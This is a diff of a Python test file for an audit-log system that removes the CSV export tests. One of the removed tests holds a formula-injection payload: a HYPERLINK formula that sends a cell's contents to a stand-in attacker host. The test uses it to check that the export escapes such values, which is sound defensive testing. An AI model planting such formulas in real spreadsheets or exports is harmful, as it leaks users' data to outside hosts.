@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import csv
 import threading
 from pathlib import Path
 
@@ -13,7 +12,6 @@ from sqlalchemy.exc import DBAPIError
 import app
 from core.audit import chain
 from core.audit.canonical import canonical_json
-from core.audit.export import export_csv
 from core.audit.verify import verify_chain
 from core.runtime.bootstrap import Environment
 from tests.support.world import drop_audit_triggers
@@ -122,30 +120,6 @@ def test_concurrent_writers_keep_the_chain_gap_free(env: Environment) -> None:
     result = verify_chain(env.store)
     assert result.ok
     assert result.checked == 41
-
-
-def test_export_is_excel_friendly_csv(env: Environment, tmp_path: Path) -> None:
-    _append(env, 3)
-    out = tmp_path / "out" / "audit.csv"
-    assert export_csv(env.store, out) == 4
-    raw = out.read_bytes()
-    assert raw.startswith(b"\xef\xbb\xbf")
-    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
-    assert rows[0][:3] == ["seq", "recorded_at", "actor"]
-    assert "市民まつり" in rows[-1][5]
-    assert list(out.parent.glob(".audit-*")) == []
-
-
-def test_export_never_hands_excel_a_formula(env: Environment, tmp_path: Path) -> None:
-    hostile = chain.Recorder(actor='=HYPERLINK("http://evil.example/?"&A1,"click")', terminal="@SUM(1)")
-    with env.store.write() as session:
-        chain.append(session, hostile, "test.event", {"i": 1})
-    out = tmp_path / "audit.csv"
-    export_csv(env.store, out)
-    row = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))[-1]
-    assert row[2] == "'" + hostile.actor
-    assert row[3] == "'@SUM(1)"
-    assert row[5].startswith("{")  # ordinary cells are written as they are
 
 
 def test_cli_export(env: Environment, data_dir: Path, db_url: str, tmp_path: Path) -> None:
